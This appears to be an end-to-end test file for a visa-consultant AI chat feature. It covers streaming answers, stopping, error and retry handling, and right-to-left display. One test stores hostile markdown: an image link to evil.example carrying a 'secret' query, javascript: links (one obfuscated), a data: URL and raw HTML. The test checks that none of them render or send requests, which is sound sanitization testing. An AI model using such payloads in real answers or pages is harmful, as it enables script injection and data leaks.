import { questionFor } from "#tests/support/ai-provider.ts";
import { test } from "#tests/support/e2e-ai.ts";
import {
  askByForm,
  chatFunction,
  consultant,
  openConsultant,
  storeChats,
  storedChats,
} from "#tests/support/e2e-consultant.ts";
import { expect } from "#tests/support/e2e-fixtures.ts";
import { refusal } from "#tests/support/e2e-problems.ts";
import { expectToast, failRequests, holdRequests, toast } from "#tests/support/e2e-screens.ts";

/** About a visa, so that the model is asked, and never answered to its end. */
const stalled = `${questionFor("stalled")}: how long does a student visa take?`;
const broken = `${questionFor("broken")}: how long does a student visa take?`;

test("says who reads what", async ({ signedInPage: page }) => {
  await openConsultant(page);
  await expect(page.getByText(/qwen3:8b reads what you ask here, your country, your steps/)).toBeVisible();
});

test("shows an answer while it comes, and stopping keeps what came", async ({ signedInPage: page, person }) => {
  await openConsultant(page);
  const { consulting, turns, stop, send, entries, title, input, panel } = consultant(page);
  await askByForm(page, stalled);
  await expect(consulting).toBeVisible();
  await expect(panel.getByRole("status")).toHaveText("The consultant is answering.");
  await expect(turns).toContainText("It is long enough", { timeout: 30_000 });
  await expect(consulting).toHaveCount(0);
  await expect(send).toBeDisabled();
  expect(await storedChats(person)).toEqual([]);

  await stop.click();
  await expect(stop).toHaveCount(0);
  await expect(input).toBeFocused();
  await expect(panel.getByRole("status")).toHaveText("Stopped. What came is kept.");
  await expect(entries).toHaveCount(1);
  await expect(title).toHaveText(/^Meet the trouble called stalled/);
  await expect(turns).toContainText("It is long enough");
  await page.reload();
  await expect(turns).toHaveCount(1);
  await expect(turns).toContainText("It is long enough");
  const [chat] = await storedChats(person);
  expect(chat?.chat_messages).toHaveLength(1);
  expect(chat?.chat_messages[0]?.message).toBe(stalled);
});

test("stopping before the first words gives the question back", async ({ signedInPage: page, person }) => {
  await openConsultant(page);
  const { stop, input, greeting } = consultant(page);
  await holdRequests(page, chatFunction, "POST");
  await askByForm(page, "How long does it take?");
  await stop.click();
  await expect(input).toHaveValue("How long does it take?");
  await expect(greeting).toBeVisible();
  await expect(toast(page)).toHaveCount(0);
  expect(await storedChats(person)).toEqual([]);
});

test("leaving the screen breaks the answer off, and nothing is stored", async ({ signedInPage: page, person }) => {
  await openConsultant(page);
  const { turns, greeting, input } = consultant(page);
  await askByForm(page, stalled);
  await expect(turns).toContainText("It is long enough", { timeout: 30_000 });
  const ended = page.waitForEvent("requestfailed", (request) => request.url().includes("visa-consultant-chat"));
  await page.getByRole("link", { name: "Visa Progress", exact: true }).click();
  expect((await ended).failure()?.errorText).toBe("net::ERR_ABORTED");
  await page.getByRole("link", { name: "Visa Consultant", exact: true }).click();
  await expect(greeting).toBeVisible();
  await expect(input).toHaveValue("");
  expect(await storedChats(person)).toEqual([]);
});

test("a model that fails leaves the question in its place, to be asked again", async ({
  signedInPage: page,
  person,
}) => {
  const [id] = await storeChats(person, [{ title: "Before", said: [{ response: "Hello." }] }]);
  await openConsultant(page);
  const { turns, retry, input, send } = consultant(page);
  await askByForm(page, broken);
  await expectToast(page, "Error", "Failed to send message. Please try again.");
  await expect(input).toHaveValue(broken);
  await expect(send).toBeEnabled();
  await expect(turns.last()).toContainText("The consultant could not answer just now. Please try again.");
  await expect(turns.last()).toContainText("nothing of it was stored");
  expect(await storedChats(person)).toMatchObject([{ id, chat_messages: [{ response: "Hello." }] }]);

  const { release } = await holdRequests(page, chatFunction, "POST");
  await retry.click();
  await expect(input).toHaveValue("");
  await expect(turns).toHaveCount(2);
  release();
  await expect(retry).toBeVisible();
  await expect(input).toHaveValue(broken);
});

test("a server in trouble, a lost connection and a refusal keep the question as well", async ({
  signedInPage: page,
  person,
  problems,
}) => {
  problems.allow(refusal(500, "/visa-consultant-chat"), refusal(429, "/visa-consultant-chat"), /ERR_FAILED/);
  await openConsultant(page);
  const { turns, retry, input, quickQuestions } = consultant(page);
  await failRequests(page, chatFunction, "POST");
  await quickQuestions.last().click();
  await expectToast(page, "Error", "Failed to send message. Please try again.");
  await expect(input).toHaveValue("What are the financial requirements?");
  await page.unroute(chatFunction);

  await page.route(chatFunction, (route) => route.abort());
  await retry.click();
  await expect(turns).toContainText("The service cannot be reached right now.");
  await page.unroute(chatFunction);

  const sentence = "You ask very fast. Wait a minute and try again.";
  await page.route(chatFunction, (route) => route.fulfill({ status: 429, json: { success: false, error: sentence } }));
  await retry.click();
  await expect(turns).toContainText(sentence);
  await page.unroute(chatFunction);
  expect(await storedChats(person)).toEqual([]);

  await retry.click();
  await expectToast(page, "Response received");
  await expect(retry).toHaveCount(0);
  await expect(input).toHaveValue("");
  expect(await storedChats(person)).toMatchObject([{ title: "What are the financial requirements?" }]);
});

test("takes an answer that does not come in pieces", async ({ signedInPage: page, person }) => {
  await openConsultant(page);
  await page.route(chatFunction, (route) =>
    route.continue({ headers: { ...route.request().headers(), accept: "application/json" } }),
  );
  await askByForm(page, "Hello");
  await expectToast(page, "Response received");
  await expect(consultant(page).turns).toHaveCount(1);
  await expect(consultant(page).turns).toContainText((await storedChats(person))[0]?.chat_messages[0]?.response ?? "-");
});

test("nothing in a stored answer acts", async ({ signedInPage: page, person, problems }) => {
  const response = [
    "Start <b>bold</b> <em>tag</em> ![picture](https://evil.example/p.png?q=secret)",
    "[run](javascript:alert(1)) [mail](mailto:a@b.example) [data](data:text/html,x) [here](/sop) [out](https://example.org)",
    "[JaVa](JaVaScRiPt&colon;alert(1)) <https://auto.example> [ref][1]",
    "# Large\n\n> quoted\n\n`code` ***",
    "| a | b |\n|---|---|\n| <i>c</i> | d |",
    "[1]: javascript:alert(2)",
    "- [x] task\n\n---\n\n```html\n<i>fenced</i>\n```\n\nEnd",
  ].join("\n\n");
  await storeChats(person, [{ said: [{ message: "<b>Mine</b> **plain** [x](https://example.org)", response }] }]);
  const requests: string[] = [];
  page.on("request", (request) => requests.push(request.url()));
  await openConsultant(page);
  const { turns } = consultant(page);
  await expect(turns).toContainText("End");
  await expect(turns).toContainText("<b>Mine</b> **plain** [x](https://example.org)");
  await expect(turns.getByRole("link")).toHaveText(["out", "https://auto.example"]);
  await expect(turns.locator("img, b, i, script, iframe, input, code, pre, table, h1, h2, hr, blockquote")).toHaveCount(
    0,
  );
  await expect(turns).toContainText("run mail data here out");
  await expect(turns).toContainText("Large");
  expect(requests.filter((url) => url.includes("evil"))).toEqual([]);
  expect(problems.unexpected()).toEqual([]);
});

test("every line in its own direction of writing", async ({ signedInPage: page, person }) => {
  const response = "تحتاج إلى **جواز سفر**.\n\n- كشف حساب\n- IELTS";
  await storeChats(person, [{ title: "ما هي المستندات المطلوبة؟", said: [{ message: "ما هي؟", response }] }]);
  await openConsultant(page);
  const { turns, input } = consultant(page);
  const directionOf = (text: string) =>
    turns
      .getByText(text)
      .first()
      .evaluate((element) => getComputedStyle(element.closest("[dir]") ?? element).direction);
  expect(await directionOf("ما هي؟")).toBe("rtl");
  expect(await directionOf("تحتاج")).toBe("rtl");
  expect(await directionOf("IELTS")).toBe("ltr");
  await input.fill("كم؟");
  expect(await input.evaluate((element) => getComputedStyle(element).direction)).toBe("rtl");
});
